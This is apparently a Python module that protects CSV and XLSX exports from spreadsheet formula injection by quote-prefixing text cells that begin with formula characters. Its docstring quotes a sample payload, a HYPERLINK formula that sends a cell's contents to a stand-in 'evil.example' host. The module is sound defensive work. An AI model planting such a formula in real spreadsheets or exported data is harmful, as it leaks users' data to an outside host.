"""Text cells that spreadsheets never run as formulas (CSV / formula injection).

A school named ``=HYPERLINK("http://evil.example/?"&A1, "open")`` must reach
a planner's Excel as that text, not as a live formula. Following the OWASP
CSV-injection guidance, a text cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written

* in CSV with a single quote in front (``'=HYPERLINK(…``), which Excel and
  LibreOffice show as text; the readers take the quote off again
  (:func:`unescape_text`), so exported tables read back unchanged;
* in XLSX as a string cell with the "quote prefix" style (the cell keeps
  its exact text; editing it in Excel does not turn it into a formula).

Numbers stay numbers (``-3.5`` is data, not a formula). Every export goes
through :func:`safe_text`, :func:`safe_row`, :func:`csv_writer` or
:func:`protect_workbook`.

CSV for the reader's Excel: a Russian-locale Excel splits CSV columns on
``;`` (the decimal separator there is the comma) and reads UTF-8 only with a
byte-order mark, so CSV exports in Russian use ``;`` and English ones ``,``
(:data:`CSV_SEPARATORS`, :func:`csv_separator`), both with the BOM; the
planner may choose the separator (``--csv-sep``, the API's ``sep``). The
readers accept either separator.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO, Any

__all__ = ["CSV_ENCODING", "CSV_SEPARATORS", "FORMULA_STARTS", "csv_separator", "csv_writer", "is_formula_like", "protect_cell", "protect_workbook", "safe_row", "safe_text", "unescape_text", "write_csv_file"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would run ``text`` as a formula."""
    return text[:1] in FORMULA_STARTS if text else False


def safe_text(value: Any) -> Any:
    """A CSV cell value that cannot run as a formula; non-text values are returned as they are.

    A text already starting with the quote followed by a formula character
    (or another quote) gets one more quote, so :func:`unescape_text` gives
    back exactly the original text.
    """
    if not isinstance(value, str) or not value:
        return value
    if is_formula_like(value) or (value[0] == _QUOTE and (is_formula_like(value[1:]) or value[1:2] == _QUOTE)):
        return _QUOTE + value
    return value


def unescape_text(value: Any) -> Any:
    """The text :func:`safe_text` was given (readers call this on CSV cells)."""
    if isinstance(value, str) and value[:1] == _QUOTE and (is_formula_like(value[1:]) or value[1:2] == _QUOTE):
        return value[1:]
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """:func:`safe_text` on every cell of a row."""
    return [safe_text(v) for v in row]


class _SafeWriter:
    """A :func:`csv.writer` whose text cells are passed through :func:`safe_text`."""

    def __init__(self, writer: Any):
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


#: The column separator a spreadsheet of each language expects.
CSV_SEPARATORS: dict[str, str] = {"ru": ";", "en": ","}
#: UTF-8 with a byte-order mark: Excel reads Cyrillic CSV right only with it.
CSV_ENCODING = "utf-8-sig"
_SEP_NAMES = {";": ";", ",": ",", "\t": "\t", "semicolon": ";", "comma": ",", "tab": "\t"}


def csv_separator(lang: str | None = None, sep: str | None = None) -> str:
    """The column separator: ``sep`` when given, else the one of ``lang`` (``;`` for Russian, ``,`` otherwise).

    Raises
    ------
    ValueError
        ``sep`` is not ``;``, ``,``, a tab (or ``semicolon``, ``comma``, ``tab``).
    """
    if sep is not None:
        try:
            return _SEP_NAMES[sep if len(sep) == 1 else sep.lower()]
        except KeyError:
            raise ValueError(f"unknown CSV separator {sep!r}; expected ';', ',' or tab (semicolon, comma, tab)") from None
    return CSV_SEPARATORS.get(lang or "", ",")


def csv_writer(fh: IO[str], *, lang: str | None = None, sep: str | None = None, **kwargs: Any) -> _SafeWriter:
    """``csv.writer(fh, **kwargs)`` that never writes a formula-like text cell.

    The delimiter is :func:`csv_separator` of ``lang`` / ``sep`` unless
    ``kwargs`` names one; without either it is ``,``.
    """
    kwargs.setdefault("delimiter", csv_separator(lang, sep))
    return _SafeWriter(csv.writer(fh, **kwargs))


def write_csv_file(path: str | Path, header: Sequence[Any], rows: Iterable[Iterable[Any]], *,
                   lang: str | None = None, sep: str | None = None) -> Path:
    """Write one CSV export (UTF-8 with BOM, the separator of ``lang`` or ``sep``); returns the path."""
    path = Path(path)
    with path.open("w", encoding=CSV_ENCODING, newline="") as fh:
        writer = csv_writer(fh, lang=lang, sep=sep)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def protect_cell(cell: Any) -> None:
    """Mark an openpyxl cell holding formula-like text as plain text (string type, quote prefix)."""
    value = cell.value
    if isinstance(value, str) and is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True


def protect_workbook(book: Any, sheets: Sequence[Any] | None = None) -> None:
    """:func:`protect_cell` on every cell of every sheet (call it right before saving)."""
    for ws in sheets if sheets is not None else book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    protect_cell(cell)
